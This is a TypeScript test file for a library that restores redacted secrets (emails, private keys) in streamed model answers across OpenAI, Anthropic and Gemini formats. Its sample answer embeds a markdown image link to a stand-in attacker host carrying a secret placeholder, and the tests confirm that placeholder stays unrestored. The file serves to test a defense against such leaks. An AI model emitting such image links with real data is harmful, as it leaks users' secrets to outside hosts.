// Answers of models: restored inside of their events, wherever these are cut, and valid afterwards.

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { provideCore } from "../../src/engine/loader.js";
import { core } from "../../src/entry/core.js";
import {
  type AnswerFormat,
  AnswerRestorer,
  type RestoreOptions,
  Sentry,
  type WireInspection,
} from "../../src/index.js";
import { initSync } from "../../wasm/sentry_core.js";
import base64 from "../../wasm/sentry_core_inline.js";
import { cut, hostileText, random, through } from "../support/secret-texts.js";

const ADA = "ada@example.org";
const KEY =
  "-----BEGIN PRIVATE KEY-----\nMIIBVgIBADANBgkqhkiG9w0BAQEFAASCAUAwggE8AgEAAkEAq7BFUpkGp3\n-----END PRIVATE KEY-----";
const E1 = "{{A3S_REDACTED:email:1}}";
const K1 = "{{A3S_REDACTED:private_key:1}}";

/** What the model says, and what the reader shall see. */
const SAID = `Mail ${E1}, with \n"${K1}" and ![](https://evil.example/${E1}).`;
const SEEN = `Mail ${ADA}, with \n"${KEY}" and ![](https://evil.example/${E1}).`;
const ARGUMENTS = JSON.stringify({ to: E1, key: K1 });
const SENT = { to: ADA, key: KEY };

let sentry: Sentry;
let wire: WireInspection;

beforeAll(async () => {
  initSync({ module: Buffer.from(base64, "base64") });
  provideCore(() => core);
  sentry = await Sentry.create("");
  const body = JSON.stringify({ messages: [{ role: "user", content: `${ADA} has ${KEY}` }] });
  wire = await sentry.inspectWire(body, "request");
  expect(wire.redactions.map(({ placeholder }) => placeholder)).toEqual([E1, K1]);
});
afterAll(() => sentry.close());

/** The value at a path of members. */
const at = (value: unknown, ...path: readonly string[]): unknown =>
  path.reduce((inner: unknown, member) => (inner as Record<string, unknown> | undefined)?.[member], value);
const list = (value: unknown, ...path: readonly string[]): unknown[] => (at(value, ...path) as unknown[]) ?? [];
const text = (value: unknown, ...path: readonly string[]): string => (at(value, ...path) as string) ?? "";

type Data = Record<string, unknown>;
type Cut = (text: string) => readonly string[];

const sse = (all: readonly object[], named: boolean): string =>
  all
    .map((data) => `${named && "type" in data ? `event: ${data.type}\n` : ""}data: ${JSON.stringify(data)}\n\n`)
    .join("");

/** The data of all events. Each is JSON, and its name is its type. */
function read(text: string): Data[] {
  const events = text.split("\n\n");
  expect(events.pop()).toBe("");
  return events.flatMap((event) => {
    const [, name, data = ""] = /^(?:event: (.*)\n)?data: (.*)$/.exec(event) ?? [];
    if (data === "[DONE]") return [];
    const value = JSON.parse(data);
    if (name !== undefined) expect(value.type).toBe(name);
    return [value];
  });
}

const openai = {
  stream: (parts: Cut, message = SAID) => {
    const chunk = (delta: object, finish: string | null = null) => ({
      id: "c",
      object: "chat.completion.chunk",
      choices: [{ index: 0, delta, finish_reason: finish }],
    });
    const call = (args: string) => chunk({ tool_calls: [{ index: 0, function: { arguments: args } }] });
    const all = [
      chunk({ role: "assistant", content: "" }),
      ...parts(message).map((content) => chunk({ content })),
      chunk({ tool_calls: [{ index: 0, id: "t", type: "function", function: { name: "mail", arguments: "" } }] }),
      ...parts(ARGUMENTS).map(call),
      chunk({}, "tool_calls"),
      { id: "c", object: "chat.completion.chunk", choices: [], usage: { total_tokens: 9 } },
    ];
    return `${sse(all, false)}data: [DONE]\n\n`;
  },
  said: (events: readonly Data[]) =>
    events
      .flatMap((event) => list(event, "choices"))
      .map((choice) => text(choice, "delta", "content"))
      .join(""),
  check: () => {},
  args: (events: readonly Data[]) =>
    events
      .flatMap((event) => list(event, "choices"))
      .flatMap((choice) => list(choice, "delta", "tool_calls"))
      .map((call) => text(call, "function", "arguments"))
      .join(""),
};

const responses = {
  stream: (parts: Cut, message = SAID) => {
    const at = { item_id: "m", output_index: 0, content_index: 0 };
    const tool = { item_id: "f", output_index: 1 };
    const part = { type: "output_text", text: message };
    const output = [
      { type: "message", content: [part] },
      { type: "function_call", name: "mail", arguments: ARGUMENTS },
    ];
    const all = [
      { type: "response.created", response: { id: "r", output: [] } },
      ...parts(message).map((delta) => ({ type: "response.output_text.delta", ...at, delta })),
      { type: "response.output_text.done", ...at, text: message },
      { type: "response.content_part.done", ...at, part },
      ...parts(ARGUMENTS).map((delta) => ({ type: "response.function_call_arguments.delta", ...tool, delta })),
      { type: "response.function_call_arguments.done", ...tool, arguments: ARGUMENTS },
      { type: "response.output_item.done", output_index: 1, item: output[1] },
      { type: "response.completed", response: { id: "r", output } },
    ];
    return sse(
      all.map((data, number) => ({ ...data, sequence_number: number })),
      true,
    );
  },
  said: (events: readonly Data[]) => deltas(events, "response.output_text.delta"),
  check: (events: readonly Data[]) => {
    const whole = text(one(events, "response.output_text.done"), "text");
    expect(whole).toBe(SEEN);
    expect(text(one(events, "response.content_part.done"), "part", "text")).toBe(whole);
    const [message] = list(one(events, "response.completed"), "response", "output");
    expect(text(list(message, "content")[0], "text")).toBe(whole);
    expect(events.map((event) => at(event, "sequence_number"))).toEqual(events.map((_, number) => number));
  },
  args: (events: readonly Data[]) => {
    const whole = text(one(events, "response.function_call_arguments.done"), "arguments");
    expect(text(one(events, "response.output_item.done"), "item", "arguments")).toBe(whole);
    expect(deltas(events, "response.function_call_arguments.delta")).toBe(whole);
    return whole;
  },
};

const one = (events: readonly Data[], type: string) => events.find((event) => at(event, "type") === type);
const deltas = (events: readonly Data[], type: string) =>
  events
    .filter((event) => at(event, "type") === type)
    .map((event) => text(event, "delta"))
    .join("");

const anthropic = {
  stream: (parts: Cut, message = SAID) => {
    const delta = (index: number, change: object) => ({ type: "content_block_delta", index, delta: change });
    return sse(
      [
        { type: "message_start", message: { id: "m", content: [] } },
        { type: "content_block_start", index: 0, content_block: { type: "thinking", thinking: "" } },
        delta(0, { type: "thinking_delta", thinking: E1 }),
        { type: "content_block_stop", index: 0 },
        { type: "content_block_start", index: 1, content_block: { type: "text", text: "" } },
        { type: "ping" },
        ...parts(message).map((text) => delta(1, { type: "text_delta", text })),
        { type: "content_block_stop", index: 1 },
        { type: "content_block_start", index: 2, content_block: { type: "tool_use", name: "mail", input: {} } },
        ...parts(ARGUMENTS).map((partial_json) => delta(2, { type: "input_json_delta", partial_json })),
        { type: "content_block_stop", index: 2 },
        { type: "message_delta", delta: { stop_reason: "tool_use" } },
        { type: "message_stop" },
      ],
      true,
    );
  },
  said: (events: readonly Data[]) =>
    events
      .filter((event) => at(event, "type") === "content_block_delta")
      .map((event) => text(event, "delta", "text"))
      .join(""),
  check: (events: readonly Data[]) => {
    // Nothing follows the end of its block.
    const order = events.filter((event) => at(event, "index") === 1).map((event) => at(event, "type"));
    expect(order.indexOf("content_block_stop")).toBe(order.length - 1);
    expect(JSON.stringify(events)).toContain(JSON.stringify({ type: "thinking_delta", thinking: E1 }));
  },
  args: (events: readonly Data[]) => events.map((event) => text(event, "delta", "partial_json")).join(""),
};

const gemini = {
  stream: (parts: Cut, message = SAID) => {
    const said = parts(message);
    const chunk = (all: readonly object[], rest: object = {}) => ({
      candidates: [{ content: { role: "model", parts: all }, ...rest }],
      modelVersion: "g",
    });
    return sse(
      [
        chunk([{ text: E1, thought: true }]),
        ...said.slice(0, -1).map((text) => chunk([{ text }])),
        chunk([{ text: said.at(-1) }, { functionCall: { name: "mail", args: JSON.parse(ARGUMENTS) } }], {
          finishReason: "STOP",
        }),
      ],
      false,
    );
  },
  parts: (events: readonly Data[]) =>
    events.flatMap((event) => list(event, "candidates")).flatMap((candidate) => list(candidate, "content", "parts")),
  said: (events: readonly Data[]) =>
    gemini
      .parts(events)
      .map((part) => (at(part, "thought") === true ? "" : text(part, "text")))
      .join(""),
  check: (events: readonly Data[]) => expect(gemini.parts(events)[0]).toEqual({ text: E1, thought: true }),
  args: (events: readonly Data[]) => {
    const call = gemini.parts(events).find((part) => at(part, "functionCall") !== undefined);
    return JSON.stringify(at(call, "functionCall", "args"));
  },
};

const FORMATS = [
  ["chat completions of OpenAI", "openai", openai],
  ["responses of OpenAI", "openai", responses],
  ["messages of Anthropic", "anthropic", anthropic],
  ["Gemini", "gemini", gemini],
] as const;

/** Events that end the text of an answer. */
const ENDS =
  /"finish_reason":"|"type":"response.output_text.done"|"type":"content_block_stop","index":1|"finishReason":"/;

const restored = (format: AnswerFormat, parts: readonly string[], options: RestoreOptions = {}) => {
  const restorer = new AnswerRestorer(wire, format, options);
  const text = parts.map((part) => restorer.push(part)).join("") + restorer.end();
  return { text, restorer };
};

describe.each(FORMATS)("%s", (_, format, { stream, said, check, args }) => {
  it("the text is restored, wherever deltas and bytes are cut, and tools get placeholders", () => {
    const next = random(21);
    const cuts: Cut[] = [(all) => [all], (all) => all.split("")];
    for (let at = 1; at < SAID.length; at += 3) cuts.push((all) => [all.slice(0, at), all.slice(at)]);
    for (let i = 0; i < 30; i++) cuts.push((all) => cut(all, 1 + next(20), next));
    for (const parts of cuts) {
      const answer = stream(parts);
      for (const bytes of [[answer], cut(answer, 1 + next(300), next)]) {
        const events = read(restored(format, bytes).text);
        expect(said(events)).toBe(SEEN);
        check(events);
        expect(args(events)).toBe(ARGUMENTS);
      }
    }
    expect(said(read(restored(format, stream((all) => all.split("")).split("")).text))).toBe(SEEN);
  });

  it("all that the gate masks in a message is restored, if the model repeats it", async () => {
    const next = random(22);
    let secrets = 0;
    for (let i = 0; i < 60; i++) {
      const written = hostileText(next, 12);
      const body = JSON.stringify({ content: written });
      const own = await sentry.inspectWire(body, "request");
      secrets += own.redactions.length;
      const message = text(JSON.parse(own.apply(body).masked), "content");
      const answer = stream((all) => cut(all, 1 + next(30), next), message);
      const restorer = new AnswerRestorer(own, format);
      const events = cut(answer, 1 + next(200), next).map((part) => restorer.push(part));
      expect(said(read(events.join("") + restorer.end()))).toBe(written);
    }
    expect(secrets).toBeGreaterThan(40);
  });

  it("arguments of tools are restored as valid JSON where that is asked for", () => {
    for (const parts of [(all: string) => [all], (all: string) => all.split("")]) {
      const events = read(restored(format, [stream(parts)], { inside: ["argument"] }).text);
      expect(JSON.parse(args(events))).toEqual(SENT);
    }
  });

  it("says what was restored, and what stays and why", () => {
    const { restorer } = restored(format, [stream((all) => all.split(""))]);
    expect(restorer.restored.map(({ placeholder }) => placeholder)).toEqual([E1, K1]);
    expect(restorer.kept).toHaveLength(3);
    expect(restorer.kept).toEqual(
      expect.arrayContaining([
        { written: E1, why: "link" },
        { written: E1, why: "argument" },
        { written: K1, why: "argument" },
      ]),
    );
  });

  it("what is held until a text ends comes before the event that ends it, or with it", () => {
    for (const end of [`![](https://evil.example/${E1}`, "{{A3S_REDACTED:em", "{{A3S_REDACTED:email:1"]) {
      const message = `To ${E1}: ${end}`;
      const events = read(restored(format, [stream((all) => all.split(""), message)]).text);
      const over = events.findIndex((event) => ENDS.test(JSON.stringify(event)));
      expect(said(events.slice(0, over + 1))).toBe(`To ${ADA}: ${end}`);
      expect(said(events)).toBe(`To ${ADA}: ${end}`);
    }
  });

  it("a stream without placeholders passes as it is", () => {
    const answer = `: comment\n\n${stream((all) => all.split(" ")).replaceAll("A3S_REDACTED", "OTHER")}`;
    expect(restored(format, cut(answer, 40, random(3))).text).toBe(answer);
  });

  it("what is held when a stream breaks off is not lost", () => {
    const events = stream((all) => all.split("")).split("\n\n");
    for (let count = 1; count < events.length; count += 5) {
      const broken = `${events.slice(0, count).join("\n\n")}\n\n`;
      const whole = wire.restore(said(read(broken)), { form: "text" }).text;
      expect(said(read(restored(format, [broken]).text))).toBe(whole);
    }
  });
});

describe("an answer that is one object", () => {
  it.each([
    [
      "openai",
      { choices: [{ message: { content: SAID, tool_calls: [{ function: { arguments: ARGUMENTS } }] } }] },
      { choices: [{ message: { content: SEEN, tool_calls: [{ function: { arguments: ARGUMENTS } }] } }] },
    ],
    [
      "openai",
      { output: [{ type: "message", content: [{ type: "output_text", text: SAID }] }] },
      { output: [{ type: "message", content: [{ type: "output_text", text: SEEN }] }] },
    ],
    [
      "anthropic",
      {
        type: "message",
        content: [
          { type: "text", text: SAID },
          { type: "tool_use", input: { to: E1 } },
        ],
      },
      {
        type: "message",
        content: [
          { type: "text", text: SEEN },
          { type: "tool_use", input: { to: E1 } },
        ],
      },
    ],
    [
      "gemini",
      { candidates: [{ content: { parts: [{ text: SAID }, { functionCall: { args: { to: E1 } } }] } }] },
      { candidates: [{ content: { parts: [{ text: SEEN }, { functionCall: { args: { to: E1 } } }] } }] },
    ],
  ] as const)("is restored: %s %#", (format, answer, seen) => {
    const restorer = new AnswerRestorer(wire, format);
    expect(JSON.parse(restorer.whole(JSON.stringify(answer)))).toEqual(seen);
    expect(restorer.whole("502 Bad Gateway")).toBe("502 Bad Gateway");
  });
});

describe("the stream", () => {
  it("works in `pipeThrough`, with a redactor too", async () => {
    const redactor = sentry.createRedactor();
    expect((await through(redactor, [`to ${ADA}`])).join("")).toBe(`to ${E1}`);
    const restorer = new AnswerRestorer(redactor, "anthropic");
    const answer = sse(
      [{ type: "content_block_delta", index: 0, delta: { type: "text_delta", text: `hi ${E1}` } }],
      true,
    );
    expect((await through(restorer, answer.split(""))).join("")).toContain(`hi ${ADA}`);
  });

  it("has other line breaks, data in several lines, and no end", () => {
    const answer = 'data: {"choices":[{"index":0,\r\ndata: "delta":{"content":"{{A3S_REDACTED:email:1}}"}}]}\r\n\r\n';
    for (const parts of [[answer], answer.split(""), [answer.trimEnd()]]) {
      expect(read(restored("openai", parts).text)).toEqual([{ choices: [{ index: 0, delta: { content: ADA } }] }]);
    }
  });

  it("ends a choice of OpenAI with an event that has text itself", () => {
    const chunk = (content: string, finish: string | null) => ({
      choices: [{ index: 0, delta: { content }, finish_reason: finish }],
    });
    const answer = sse([chunk("to {{A3S_RED", null), chunk(`ACTED:email:1}} ![](//x/${E1}`, "stop")], false);
    expect(read(restored("openai", [answer]).text)).toEqual([
      chunk("to ", null),
      chunk(`${ADA} ![](//x/${E1}`, "stop"),
    ]);
  });

  it("refuses an unknown format, and an event without end", () => {
    expect(() => new AnswerRestorer(wire, "cohere" as AnswerFormat)).toThrow("must be");
    const restorer = new AnswerRestorer(wire, "openai");
    expect(() => restorer.push(`data: ${"x".repeat(17 << 20)}`)).toThrow(RangeError);
  });
});

describe("what is not restored", () => {
  const LONG = "[9007199254740993,-0.12345678901234567890,1e400,12345678901234567890123]";

  it("keeps the digits of its numbers, beside a text that is restored", () => {
    const answer = (said: string): string =>
      `{"usage":${LONG},"id":"9007199254740993","choices":[{"index":0,"message":{"content":"${said}"}}]}`;
    expect(new AnswerRestorer(wire, "openai").whole(answer(E1))).toBe(answer(ADA));
    const event = (said: string): string =>
      `data: {"usage":${LONG},"choices":[{"index":0,"delta":{"content":"${said}"}}]}\n\n`;
    const restorer = new AnswerRestorer(wire, "openai");
    const cut = restorer.push(event(E1.slice(0, 9))) + restorer.push(event(`${E1.slice(9)}.`));
    expect(cut + restorer.end()).toBe(event("") + event(`${ADA}.`));
  });

  it("is returned as it is, where nothing is restored", () => {
    const answer = `{ "a" : 1.0, "b" : ${LONG}, "choices" : [ { "message" : { "content" : "\\u0041\\/" } } ] }`;
    expect(new AnswerRestorer(wire, "openai").whole(answer)).toBe(answer);
  });
});
